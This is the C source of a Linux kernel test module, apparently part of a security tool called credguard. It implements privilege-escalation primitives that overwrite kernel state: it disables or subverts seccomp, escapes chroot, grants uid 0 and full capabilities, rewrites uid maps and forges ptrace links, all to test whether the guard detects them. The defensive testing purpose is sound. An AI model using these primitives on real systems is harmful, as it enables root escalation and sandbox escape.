// SPDX-License-Identifier: GPL-2.0
/*
 * cgtest: TEST ONLY. Exploit primitives against the state credguard guards
 * beside the credentials, each performed inside the write() to /proc/cgtest:
 *
 *   fs_ptr          current->fs = init's fs_struct (chroot escape)
 *   fs_root         root and cwd of current->fs = init's root, in place
 *   fs_pwd          only the cwd of current->fs = init's root, in place
 *   seccomp_off     seccomp mode 0, no filter, count 0, SECCOMP work bit off
 *   seccomp_work    only the SECCOMP work bit off
 *   seccomp_suspend PT_SUSPEND_SECCOMP in current's ptrace word (no
 *                   tracer: seccomp then skips every filter)
 *   seccomp_unsuspend  that bit off again (a task that lives on with a
 *                   ptrace word but no tracer would stop at a signal)
 *   seccomp_cache   the bits of mkdir and mkdirat (of the caller's ABI)
 *                   set in the action cache of current's newest filter:
 *                   seccomp then lets them through without any filter;
 *                   -EOPNOTSUPP where the kernel has no cache
 *   seccomp_prog    the newest filter's program = the program of the
 *                   filter below it (-ENOENT: none below)
 *   seccomp_func    the newest filter's program's entry point = that of
 *                   the program below (-EROFS: not JITed, so read-only)
 *   nnp_off         clear no_new_privs
 *   uts_member      nsproxy->uts_ns = init's, in place
 *   net_member      nsproxy->net_ns = &init_net, in place
 *   uts_owner       the owner of current's UTS namespace = current's user
 *                   namespace, in place (sethostname() then passes)
 *   mnt_owner       the same for its mount namespace (may_mount() then
 *                   passes); -ENODATA if its owner is not found
 *   group0          the first supplementary gid = 0, in place
 *   tp_clear_ids    syscall-tracepoint work bit off, then ids = 0
 *   tp_clear_other PID  syscall-tracepoint work bit of task PID off
 *   trace_rec_outside FD  the ftrace recursion bits of current's normal
 *                   context set (every ftrace-based kprobe then skips
 *                   current: credguard's security_capable() probe), then
 *                   userns_own FD; -EOPNOTSUPP without
 *                   <linux/trace_recursion.h> (5.10)
 *   ptrace_link PID task PID (current's child, say a set-uid program it
 *                   ran) traced by current: its ptrace word set, its
 *                   parent current, and no link made (what
 *                   ptrace_check_attach() asks)
 *   userns_own FD   the owner and group of the user namespace open as
 *                   the caller's FD (/proc/PID/ns/user) = the caller's
 *                   euid and egid, in place (a namespace whose parent is
 *                   the caller's: setns() into it then passes, as the
 *                   owner's)
 *   orig_ax_exec    orig_ax = __NR_execve, then ids = 0 and full caps
 *   compat_on NR    TS_COMPAT set at the entry of current's next 64-bit
 *                   syscall NR, before credguard's probe sees it (x86)
 *   kthread_ids     PF_KTHREAD on, then ids = 0
 *   kthread_undo    PF_KTHREAD off again (a user task must not return to
 *                   user space with it: switch_fpu_return() warns)
 *   uid_map0        extent 0 of current's user namespace uid_map maps to
 *                   kuid 0, in place (lower_first = 0; with no map yet, a
 *                   one-extent map "0 0 1" is written straight in)
 *   init_map4242    the initial namespace's uid_map rewritten in place so
 *                   that uid 4242 (no other test's) maps to kuid 0, every
 *                   other id to itself
 *   init_map_undo   its one identity extent back
 *   ptracer_root    current->ptracer_cred = init's cred (a traced task:
 *                   its next set-uid exec keeps the gain under an
 *                   unprivileged tracer); references kept balanced, as
 *                   nothing puts this pointer back
 *   ptrace_parent_init
 *                   the same, and in the next exec's credential step
 *                   current->parent = PID 1 (a root task, the tracer
 *                   the kernel's checks would then name) until that exec
 *                   returns to user space: a task work puts the real
 *                   tracer back before the exec's SIGTRAP reports to it
 *   ptrace_hide     ptracer_root, and at the start of the next exec
 *                   (prepare_exec_creds(), before the kernel asks whether
 *                   the task is traced) current->ptrace = 0 until that
 *                   exec returns to user space (or the task exits): a
 *                   task work sets the word back, with the task still on
 *                   its tracer's list throughout
 *
 * Every reference the primitives drop is leaked on purpose (cgt_dropped):
 * credguard may put the old pointer back.
 *
 * Copyright (C) 2026 The credguard authors.
 */
#include <linux/compat.h>
#include <linux/fs_struct.h>
#include <linux/kprobes.h>
#include <linux/tracepoint.h>
#include <linux/magic.h>
#include <linux/nsproxy.h>
#include <linux/file.h>
#include <linux/pid.h>
#include <linux/proc_ns.h>
#include <linux/ptrace.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/sched/signal.h>
#include <linux/sched/task_stack.h>
#include <linux/seccomp.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/task_work.h>
#if __has_include(<linux/trace_recursion.h>)
#include <linux/trace_recursion.h>
#endif
#include <linux/user_namespace.h>
#include <linux/utsname.h>
#include <net/net_namespace.h>
#include <asm/unistd.h>

#include "cgtest.h"
#include "sfilter.h" /* src/sfilter.h, copied by build-tests.sh */

/* Generic entry (5.11) moved these bits from TIF_* to SYSCALL_WORK_*. */
#ifdef SYSCALL_WORK_SECCOMP
#define cgt_clear_seccomp_work(t) clear_task_syscall_work(t, SECCOMP)
#else
#define cgt_clear_seccomp_work(t) clear_tsk_thread_flag(t, TIF_SECCOMP)
#endif
#ifdef SYSCALL_WORK_SYSCALL_TRACEPOINT
#define cgt_clear_tp_work(t) clear_task_syscall_work(t, SYSCALL_TRACEPOINT)
#else
#define cgt_clear_tp_work(t) clear_tsk_thread_flag(t, TIF_SYSCALL_TRACEPOINT)
#endif

static int cgt_fs_ptr(void)
{
	struct fs_struct *fs = init_task.fs;

	cgt_fs_lock(fs);
	fs->users++;
	cgt_fs_unlock(fs);
	task_lock(current);
	cgt_dropped(current->fs, fs);
	current->fs = fs;
	task_unlock(current);
	return 0;
}

static int cgt_fs_root(void)
{
	struct fs_struct *fs = current->fs;
	struct path root, pwd;

	get_fs_root(init_task.fs, &root);
	pwd = root;
	path_get(&pwd);
	cgt_fs_lock(fs);
	fs->root = root;
	fs->pwd = pwd;
	cgt_fs_unlock(fs);
	return 0;
}

static int cgt_fs_pwd(void)
{
	struct fs_struct *fs = current->fs;
	struct path pwd;

	get_fs_root(init_task.fs, &pwd);
	cgt_fs_lock(fs);
	fs->pwd = pwd;
	cgt_fs_unlock(fs);
	return 0;
}

/*
 * For the probes of cgtest_inside.c (atomic context): current's root
 * and/or cwd = init's root, in place.
 */
void cgt_fs_to_init(bool root, bool pwd)
{
	struct fs_struct *fs = current->fs;
	struct path r;

	get_fs_root(init_task.fs, &r);
	if (root && pwd)
		path_get(&r);
	cgt_fs_lock(fs);
	if (root) {
		cgt_dropped(fs->root.dentry, NULL);
		fs->root = r;
	}
	if (pwd) {
		cgt_dropped(fs->pwd.dentry, NULL);
		fs->pwd = r;
	}
	cgt_fs_unlock(fs);
}

/* One filter more by count, the same chain (nothing runs differently). */
void cgt_seccomp_count(void)
{
#ifdef CGT_HAVE_SECCOMP_FILTER_COUNT
	atomic_inc(&current->seccomp.filter_count);
#endif
}

static int cgt_seccomp_off(void)
{
	spin_lock_irq(&current->sighand->siglock);
	current->seccomp.mode = 0;
	cgt_dropped(current->seccomp.filter, NULL);
	current->seccomp.filter = NULL;
#ifdef CGT_HAVE_SECCOMP_FILTER_COUNT
	atomic_set(&current->seccomp.filter_count, 0);
#endif
	cgt_clear_seccomp_work(current);
	spin_unlock_irq(&current->sighand->siglock);
	return 0;
}

/* current's newest filter, with one below it when @below (else NULL). */
static struct cg_sfilter *cgt_sfilter(bool below)
{
#ifdef CONFIG_SECCOMP_FILTER
	struct cg_sfilter *f = (struct cg_sfilter *)current->seccomp.filter;

	if (f && (!below || f->prev))
		return f;
#endif
	return NULL;
}

/* mkdir and mkdirat in the compat ABI (ia32, AArch32 EABI). */
#ifdef CONFIG_X86_64
#define CGT_COMPAT_MKDIR __NR_ia32_mkdir
#define CGT_COMPAT_MKDIRAT __NR_ia32_mkdirat
#else
#define CGT_COMPAT_MKDIR 39
#define CGT_COMPAT_MKDIRAT 323
#endif

static int cgt_seccomp_cache(void)
{
#ifdef SECCOMP_ARCH_NATIVE
	struct cg_sfilter *f = cgt_sfilter(false);

	if (!f)
		return -ENOENT;
#ifdef SECCOMP_ARCH_COMPAT
	if (in_compat_syscall()) {
		__set_bit(CGT_COMPAT_MKDIR, f->allow_compat);
		__set_bit(CGT_COMPAT_MKDIRAT, f->allow_compat);
		return 0;
	}
#endif
#ifdef __NR_mkdir
	__set_bit(__NR_mkdir, f->allow_native);
#endif
	__set_bit(__NR_mkdirat, f->allow_native);
	return 0;
#else
	return -EOPNOTSUPP;
#endif
}

static int cgt_seccomp_prog(void)
{
	struct cg_sfilter *f = cgt_sfilter(true);

	if (!f)
		return -ENOENT;
	f->prog = f->prev->prog;
	return 0;
}

static int cgt_seccomp_func(void)
{
	struct cg_sfilter *f = cgt_sfilter(true);

	if (!f)
		return -ENOENT;
	if (!f->prog->jited)
		return -EROFS;
	WRITE_ONCE(f->prog->bpf_func, f->prev->prog->bpf_func);
	return 0;
}

static int cgt_seccomp_work(void)
{
	cgt_clear_seccomp_work(current);
	return 0;
}

static int cgt_seccomp_suspend(void)
{
	current->ptrace |= PT_SUSPEND_SECCOMP;
	return 0;
}

static int cgt_seccomp_unsuspend(void)
{
	current->ptrace &= ~PT_SUSPEND_SECCOMP;
	return 0;
}

static int cgt_nnp_off(void)
{
	clear_bit(PFA_NO_NEW_PRIVS, &current->atomic_flags);
	return 0;
}

static int cgt_uts_member(void)
{
	struct uts_namespace *ns = init_task.nsproxy->uts_ns;

	get_uts_ns(ns);
	task_lock(current);
	cgt_dropped(current->nsproxy->uts_ns, ns);
	current->nsproxy->uts_ns = ns;
	task_unlock(current);
	return 0;
}

static int cgt_net_member(void)
{
	struct net *net = get_net(&init_net);

	task_lock(current);
	cgt_dropped(current->nsproxy->net_ns, &init_net);
	current->nsproxy->net_ns = net;
	task_unlock(current);
	return 0;
}

/* Point *@slot, a namespace's owner, at current's user namespace. */
static int cgt_own(struct user_namespace **slot)
{
	struct user_namespace *me = get_user_ns(current_user_ns());

	if (*slot == me) {
		put_user_ns(me);
		return -EEXIST;
	}
	*slot = me;
	return 0;
}

static int cgt_uts_owner(void)
{
	return cgt_own(&current->nsproxy->uts_ns->user_ns);
}

/*
 * struct mnt_namespace is private to fs/: its owner is the first word
 * that points at the user namespace owning it. The guest made it as root
 * in the initial namespace, and nothing before the owner points there.
 */
static int cgt_mnt_owner(void)
{
	struct user_namespace **w = (void *)current->nsproxy->mnt_ns;
	size_t i, n = ksize(w) / sizeof(*w);

	for (i = 1; i < n; i++)
		if (w[i] == &init_user_ns)
			return cgt_own(&w[i]);
	return -ENODATA;
}

static int cgt_group0(void)
{
	struct group_info *gi = current_cred()->group_info;

	if (gi->ngroups < 1)
		return -ENODATA;
	gi->gid[0] = GLOBAL_ROOT_GID;
	return 0;
}

static int cgt_tp_clear_ids(void)
{
	cgt_clear_tp_work(current);
	cgt_zero_ids((struct cred *)current_cred());
	return 0;
}

static int cgt_tp_clear_other(pid_t nr)
{
	struct task_struct *t;

	rcu_read_lock();
	t = pid_task(find_vpid(nr), PIDTYPE_PID);
	if (t)
		cgt_clear_tp_work(t);
	rcu_read_unlock();
	return t ? 0 : -ESRCH;
}

static int cgt_ptrace_link(pid_t nr)
{
	struct task_struct *t;

	rcu_read_lock();
	t = pid_task(find_vpid(nr), PIDTYPE_PID);
	if (t && t != current) {
		rcu_assign_pointer(t->parent, current);
		WRITE_ONCE(t->ptrace, PT_PTRACED);
	}
	rcu_read_unlock();
	return t && t != current ? 0 : -ESRCH;
}

static int cgt_userns_own(unsigned int fd)
{
	struct user_namespace *ns;
	struct ns_common *nsc;
	struct file *f = fget(fd);
	int ret = -EINVAL;

	if (!f)
		return -EBADF;
	nsc = get_proc_ns(file_inode(f));
	if (file_inode(f)->i_sb->s_magic == NSFS_MAGIC && nsc &&
	    nsc->ops == init_user_ns.ns.ops) {
		ns = container_of(nsc, struct user_namespace, ns);
		ns->owner = current_euid();
		ns->group = current_egid();
		ret = 0;
	}
	fput(f);
	return ret;
}

static int cgt_trace_rec_outside(unsigned int fd)
{
#if __has_include(<linux/trace_recursion.h>) && defined(CONFIG_TRACING)
	/* What ftrace_test_recursion_trylock() tests in normal context. */
	current->trace_recursion |=
		BIT(TRACE_FTRACE_BIT + TRACE_CTX_NORMAL) |
		BIT(TRACE_FTRACE_BIT + TRACE_CTX_TRANSITION);
	return cgt_userns_own(fd);
#else
	return -EOPNOTSUPP;
#endif
}

static int cgt_orig_ax_exec(void)
{
#ifdef CONFIG_X86_64
	struct cred *c = (struct cred *)current_cred();

	task_pt_regs(current)->orig_ax = __NR_execve;
	cgt_zero_ids(c);
	c->cap_permitted = CAP_FULL_SET;
	c->cap_effective = CAP_FULL_SET;
	c->cap_inheritable = CAP_FULL_SET;
	c->cap_bset = CAP_FULL_SET;
	c->cap_ambient = CAP_FULL_SET;
	return 0;
#else
	return -EOPNOTSUPP;
#endif
}

static int cgt_kthread_ids(void)
{
	current->flags |= PF_KTHREAD;
	cgt_zero_ids((struct cred *)current_cred());
	return 0;
}

static int cgt_kthread_undo(void)
{
	current->flags &= ~PF_KTHREAD;
	return 0;
}

/*
 * Up to UID_GID_MAP_MAX_BASE_EXTENTS extents, map_id_down() and map_id_up()
 * both read the inline extent[] array; only longer maps have the forward
 * and reverse copies.
 */
static int cgt_uid_map0(void)
{
	struct user_namespace *ns = current_user_ns();
	struct uid_gid_map *m = &ns->uid_map;

	if (ns == &init_user_ns)
		return -EINVAL;
	if (m->nr_extents > UID_GID_MAP_MAX_BASE_EXTENTS)
		return -EOPNOTSUPP;
	if (!m->nr_extents) {
		m->extent[0].first = 0;
		m->extent[0].count = 1;
		m->extent[0].lower_first = 0;
		smp_wmb(); /* the extent before the count readers check */
		m->nr_extents = 1;
		return 0;
	}
	WRITE_ONCE(m->extent[0].lower_first, 0);
	return 0;
}

/*
 * The initial namespace's uid_map: 0..4241 and 4243.. to themselves, 4242
 * to kuid 0 (the extents first, then their count, as map_write() does).
 * Ids at and above 4242 are unmapped while it is being written; the suite
 * undoes it at once, whatever happened to the attacking task.
 */
#define CGT_MAP_UID 4242

static int cgt_init_map4242(void)
{
	struct uid_gid_map *m = &init_user_ns.uid_map;

	if (m->nr_extents != 1 || m->extent[0].first ||
	    m->extent[0].lower_first)
		return -EBUSY;
	m->extent[1].first = CGT_MAP_UID;
	m->extent[1].lower_first = 0;
	m->extent[1].count = 1;
	m->extent[2].first = CGT_MAP_UID + 1;
	m->extent[2].lower_first = CGT_MAP_UID + 1;
	m->extent[2].count = m->extent[0].count - (CGT_MAP_UID + 1);
	smp_wmb(); /* new extents before extent 0 shrinks: no id unmapped */
	WRITE_ONCE(m->extent[0].count, CGT_MAP_UID);
	smp_wmb(); /* pairs with map_id_range_down()'s read of nr_extents */
	WRITE_ONCE(m->nr_extents, 3);
	return 0;
}

static int cgt_init_map_undo(void)
{
	struct uid_gid_map *m = &init_user_ns.uid_map;

	if (m->nr_extents != 3)
		return 0;
	WRITE_ONCE(m->extent[0].count, m->extent[2].count + CGT_MAP_UID + 1);
	smp_wmb(); /* extent 0 whole again before the others are dropped */
	WRITE_ONCE(m->nr_extents, 1);
	return 0;
}

static int cgt_ptracer_root(void)
{
	const struct cred *old;

	rcu_read_lock();
	old = rcu_dereference(current->ptracer_cred);
	if (old)
		rcu_assign_pointer(current->ptracer_cred,
				   get_task_cred(&init_task));
	rcu_read_unlock();
	if (!old)
		return -EINVAL; /* not traced */
	put_cred(old);
	return 0;
}

/* ptrace_parent_init: armed for one task's next exec. */
static DEFINE_MUTEX(cgt_pp_lock);
static struct task_struct *cgt_pp_task;
static struct task_struct *cgt_pp_tracer;
static struct callback_head cgt_pp_work;
static bool cgt_pp_on;

static void cgt_pp_undo(struct callback_head *cb)
{
	rcu_assign_pointer(current->parent, cgt_pp_tracer);
}

/* The return of the exec's credential step: the parent becomes PID 1. */
static int cgt_pp_ret(struct kretprobe_instance *ri, struct pt_regs *regs)
{
	struct task_struct *init1;

	if (current != READ_ONCE(cgt_pp_task) || regs_return_value(regs))
		return 0;
	WRITE_ONCE(cgt_pp_task, NULL);
	rcu_read_lock();
	init1 = pid_task(find_pid_ns(1, &init_pid_ns), PIDTYPE_PID);
	cgt_pp_tracer = rcu_dereference(current->parent);
	if (init1) {
		init_task_work(&cgt_pp_work, cgt_pp_undo);
		if (!task_work_add(current, &cgt_pp_work, TWA_RESUME))
			rcu_assign_pointer(current->parent, init1);
	}
	rcu_read_unlock();
	return 0;
}

static struct kretprobe cgt_pp_rp = {
	.kp.symbol_name = "security_bprm_creds_from_file",
	.handler = cgt_pp_ret,
	.maxactive = 4,
};

static int cgt_ptrace_parent_init(void)
{
	int ret;

	if (!current->ptrace)
		return -EINVAL;
	mutex_lock(&cgt_pp_lock);
	ret = cgt_pp_on ? 0 : register_kretprobe(&cgt_pp_rp);
	cgt_pp_on = !ret;
	if (!ret) {
		WRITE_ONCE(cgt_pp_task, current);
		ret = cgt_ptracer_root();
	}
	mutex_unlock(&cgt_pp_lock);
	return ret;
}

/* ptrace_hide: armed for one task's next exec, under cgt_pp_lock too. */
static struct task_struct *cgt_hide_task;
static unsigned int cgt_hide_word;
static struct callback_head cgt_hide_work;
static bool cgt_hide_on;
static bool cgt_hide_queued; /* cgt_hide_work is on a task's list */

static void cgt_hide_undo(struct callback_head *cb)
{
	WRITE_ONCE(current->ptrace, cgt_hide_word);
	WRITE_ONCE(cgt_hide_queued, false);
}

static int cgt_hide_pre(struct kprobe *p, struct pt_regs *regs)
{
	if (current != READ_ONCE(cgt_hide_task))
		return 0;
	WRITE_ONCE(cgt_hide_task, NULL);
	cgt_hide_word = current->ptrace;
	init_task_work(&cgt_hide_work, cgt_hide_undo);
	if (!task_work_add(current, &cgt_hide_work, TWA_RESUME)) {
		WRITE_ONCE(cgt_hide_queued, true);
		WRITE_ONCE(current->ptrace, 0);
	}
	return 0;
}

static struct kprobe cgt_hide_kp = {
	.symbol_name = "prepare_exec_creds",
	.pre_handler = cgt_hide_pre,
};

static int cgt_ptrace_hide(void)
{
	int ret;

	if (!current->ptrace)
		return -EINVAL;
	/* One at a time: the work and the word are single. */
	if (READ_ONCE(cgt_hide_task) || READ_ONCE(cgt_hide_queued))
		return -EBUSY;
	mutex_lock(&cgt_pp_lock);
	ret = cgt_hide_on ? 0 : register_kprobe(&cgt_hide_kp);
	cgt_hide_on = !ret;
	if (!ret) {
		WRITE_ONCE(cgt_hide_task, current);
		ret = cgt_ptracer_root();
	}
	mutex_unlock(&cgt_pp_lock);
	return ret;
}

/*
 * compat_on NR: TS_COMPAT set in current's thread_info at the entry of
 * its next 64-bit syscall NR, by a sys_enter probe that runs before
 * credguard's (a higher priority): as another CPU writes it while the
 * task runs in user space (the kernel clears it only on the way back).
 */
#if defined(CONFIG_X86_64) && defined(CONFIG_IA32_EMULATION)
static struct tracepoint *cgt_sys_enter;
static struct task_struct *cgt_compat_task;
static unsigned int cgt_compat_nr;
static atomic_t cgt_compat_armed = ATOMIC_INIT(0);

static void cgt_find_sys_enter(struct tracepoint *tp, void *priv)
{
	if (!strcmp(tp->name, "sys_enter"))
		cgt_sys_enter = tp;
}

static void cgt_compat_probe(void *data, struct pt_regs *regs, long id)
{
	if (current == READ_ONCE(cgt_compat_task) && id == cgt_compat_nr &&
	    !in_ia32_syscall() && atomic_xchg(&cgt_compat_armed, 0))
		current_thread_info()->status |= TS_COMPAT;
}

static int cgt_compat_on(unsigned int nr)
{
	int ret = 0;

	mutex_lock(&cgt_pp_lock);
	if (!cgt_sys_enter) {
		for_each_kernel_tracepoint(cgt_find_sys_enter, NULL);
		ret = cgt_sys_enter ?
			      tracepoint_probe_register_prio(cgt_sys_enter,
							     cgt_compat_probe,
							     NULL, 100) :
			      -ENOENT;
		if (ret)
			cgt_sys_enter = NULL;
	}
	if (!ret) {
		WRITE_ONCE(cgt_compat_task, current);
		cgt_compat_nr = nr;
		atomic_set(&cgt_compat_armed, 1);
	}
	mutex_unlock(&cgt_pp_lock);
	return ret;
}

static void cgt_compat_exit(void)
{
	if (!cgt_sys_enter)
		return;
	tracepoint_probe_unregister(cgt_sys_enter, cgt_compat_probe, NULL);
	tracepoint_synchronize_unregister();
	cgt_sys_enter = NULL;
}
#else
static int cgt_compat_on(unsigned int nr)
{
	return -EOPNOTSUPP;
}

static void cgt_compat_exit(void)
{
}
#endif

void cgt_guard_exit(void)
{
	cgt_compat_exit();
	mutex_lock(&cgt_pp_lock);
	if (cgt_pp_on)
		unregister_kretprobe(&cgt_pp_rp);
	cgt_pp_on = false;
	if (cgt_hide_on)
		unregister_kprobe(&cgt_hide_kp);
	cgt_hide_on = false;
	mutex_unlock(&cgt_pp_lock);
}

static const struct {
	const char *name;
	int (*fn)(void);
} cgt_guard_prims[] = {
	{ "fs_ptr", cgt_fs_ptr },
	{ "fs_root", cgt_fs_root },
	{ "fs_pwd", cgt_fs_pwd },
	{ "seccomp_off", cgt_seccomp_off },
	{ "seccomp_work", cgt_seccomp_work },
	{ "seccomp_suspend", cgt_seccomp_suspend },
	/* the same; the guest then spins in user space */
	{ "seccomp_suspend_tick", cgt_seccomp_suspend },
	{ "seccomp_unsuspend", cgt_seccomp_unsuspend },
	{ "seccomp_cache", cgt_seccomp_cache },
	{ "seccomp_prog", cgt_seccomp_prog },
	{ "seccomp_func", cgt_seccomp_func },
	{ "nnp_off", cgt_nnp_off },
	{ "uts_member", cgt_uts_member },
	{ "net_member", cgt_net_member },
	{ "uts_owner", cgt_uts_owner },
	{ "mnt_owner", cgt_mnt_owner },
	{ "group0", cgt_group0 },
	{ "tp_clear_ids", cgt_tp_clear_ids },
	/* the same; the guest forks before its next boundary */
	{ "tp_clear_fork", cgt_tp_clear_ids },
	{ "orig_ax_exec", cgt_orig_ax_exec },
	{ "kthread_ids", cgt_kthread_ids },
	{ "kthread_undo", cgt_kthread_undo },
	{ "uid_map0", cgt_uid_map0 },
	{ "init_map4242", cgt_init_map4242 },
	{ "init_map_undo", cgt_init_map_undo },
	{ "ptracer_root", cgt_ptracer_root },
	{ "ptrace_parent_init", cgt_ptrace_parent_init },
	{ "ptrace_hide", cgt_ptrace_hide },
};

int cgt_guard_run(const char *name, bool has_arg, unsigned int arg)
{
	size_t i;

	if (!strcmp(name, "tp_clear_other"))
		return has_arg ? cgt_tp_clear_other(arg) : -EINVAL;
	if (!strcmp(name, "trace_rec_outside"))
		return has_arg ? cgt_trace_rec_outside(arg) : -EINVAL;
	if (!strcmp(name, "ptrace_link"))
		return has_arg ? cgt_ptrace_link(arg) : -EINVAL;
	if (!strcmp(name, "compat_on"))
		return has_arg ? cgt_compat_on(arg) : -EINVAL;
	/* the same; the guest then uses the namespace from outside */
	if (!strcmp(name, "userns_own") || !strcmp(name, "userns_outside"))
		return has_arg ? cgt_userns_own(arg) : -EINVAL;
	for (i = 0; i < ARRAY_SIZE(cgt_guard_prims); i++)
		if (!strcmp(name, cgt_guard_prims[i].name))
			return has_arg ? -EINVAL : cgt_guard_prims[i].fn();
	return -ENOENT;
}
